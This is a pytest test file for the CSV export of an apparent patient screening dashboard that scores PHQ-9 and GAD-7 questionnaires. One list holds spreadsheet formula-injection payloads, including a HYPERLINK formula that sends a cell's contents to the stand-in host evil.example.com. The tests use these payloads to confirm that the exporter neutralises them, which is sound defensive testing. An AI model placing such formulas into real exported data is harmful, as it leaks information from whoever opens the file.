"""CSV export: the pure row builder, then the streamed download with the dashboard's filters."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from screening.core import export_csv
from screening.core import instruments as inst

SUBMITTED = dt.datetime(2026, 3, 4, 5, 6, 7, 890123, tzinfo=dt.UTC)

INJECTION_PAYLOADS = [
    '=HYPERLINK("http://evil.example.com/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "\n=cmd",
]


def record(**overrides: object) -> dict[str, object]:
    answers = {q.field(i): 1 for q in inst.QUESTIONNAIRES for i in q.items}
    answers["phq9_3"] = 3
    answers["gad7_2"] = 0
    base: dict[str, object] = {
        "reference": "ABCD-EFGH",
        "submitted_at": SUBMITTED,
        "first_name": "Alex",
        "last_name": "Testperson",
        "date_of_birth": dt.date(1984, 6, 14),
        "email": "alex.testperson@example.com",
        "phone": "555 010 4477",
        "answers": answers,
        "phq9_total": 11,
        "phq9_severity": "moderate",
        "phq9_difficulty": 2,
        "gad7_total": 6,
        "gad7_severity": "mild",
        "adequate_failed_trials": 2,
        "contraindications": [],
        "cautions": ["mania", "pregnancy"],
        "fit": "likely_fit",
        "urgent": True,
        "needs_medical_review": True,
        "ruleset": "v1",
        "review_status": "new",
        "acknowledged_at": None,
    }
    base.update(overrides)
    return base


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_columns_are_in_the_documented_order():
    assert export_csv.columns() == [
        "reference", "submitted_at", "first_name", "last_name", "date_of_birth", "email", "phone",
        "phq9_1", "phq9_2", "phq9_3", "phq9_4", "phq9_5", "phq9_6", "phq9_7", "phq9_8", "phq9_9",
        "phq9_total", "phq9_severity", "phq9_difficulty", "phq9_item9_positive",
        "gad7_1", "gad7_2", "gad7_3", "gad7_4", "gad7_5", "gad7_6", "gad7_7",
        "gad7_total", "gad7_severity", "adequate_failed_trials", "contraindications", "cautions",
        "fit", "urgent", "needs_medical_review", "ruleset", "review_status", "acknowledged_at",
    ]


def test_deidentified_columns_leave_out_exactly_the_five_identifying_ones():
    full = export_csv.columns()
    short = export_csv.columns(deidentified=True)
    assert set(full) - set(short) == {"first_name", "last_name", "date_of_birth", "email", "phone"}
    assert short == [c for c in full if c in short]


def test_a_row_has_every_value_formatted_as_documented():
    cells = dict(zip(export_csv.columns(), export_csv.row(record()), strict=True))
    assert cells["reference"] == "ABCD-EFGH"
    assert cells["submitted_at"] == "2026-03-04T05:06:07Z"
    assert cells["date_of_birth"] == "1984-06-14"
    assert cells["phq9_3"] == 3 and cells["phq9_9"] == 1 and cells["gad7_2"] == 0
    assert cells["phq9_item9_positive"] == "true"
    assert cells["phq9_difficulty"] == 2
    assert cells["contraindications"] == ""
    assert cells["cautions"] == "mania;pregnancy"
    assert cells["urgent"] == "true" and cells["needs_medical_review"] == "true"
    assert cells["acknowledged_at"] == ""


def test_item9_zero_is_false_and_times_in_other_zones_are_written_in_utc():
    answers = {q.field(i): 0 for q in inst.QUESTIONNAIRES for i in q.items}
    acknowledged = dt.datetime(2026, 3, 4, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    cells = dict(
        zip(
            export_csv.columns(),
            export_csv.row(record(answers=answers, acknowledged_at=acknowledged, urgent=False)),
            strict=True,
        )
    )
    assert cells["phq9_item9_positive"] == "false"
    assert cells["urgent"] == "false"
    assert cells["acknowledged_at"] == "2026-03-04T07:00:00Z"


@pytest.mark.parametrize("payload", INJECTION_PAYLOADS)
def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_quote(payload):
    row = export_csv.row(record(first_name=payload, last_name=payload, email=payload))
    text = "".join(export_csv.encode([export_csv.columns(), row]))
    parsed = parse(text)[1]
    cells = dict(zip(export_csv.columns(), parsed, strict=True))
    for column in ("first_name", "last_name", "email"):
        assert cells[column] == "'" + payload


def test_numbers_and_harmless_text_are_left_alone():
    assert export_csv.cell(-2) == -2
    assert export_csv.cell(0) == 0
    assert export_csv.neutralise("Alex") == "Alex"
    assert export_csv.neutralise("O'Brien-Smith") == "O'Brien-Smith"
    assert export_csv.neutralise("a=b") == "a=b"


def test_encoding_is_rfc_4180_with_crlf_and_quoted_commas_quotes_and_newlines():
    text = "".join(export_csv.encode([["a,b", 'say "hi"', "two\nlines", 7]]))
    assert text == '"a,b","say ""hi""","two\nlines",7\r\n'
    assert parse(text) == [["a,b", 'say "hi"', "two\nlines", "7"]]


def test_a_naive_time_is_refused_rather_than_guessed():
    with pytest.raises(ValueError):
        export_csv.row(record(submitted_at=dt.datetime(2026, 1, 1)))
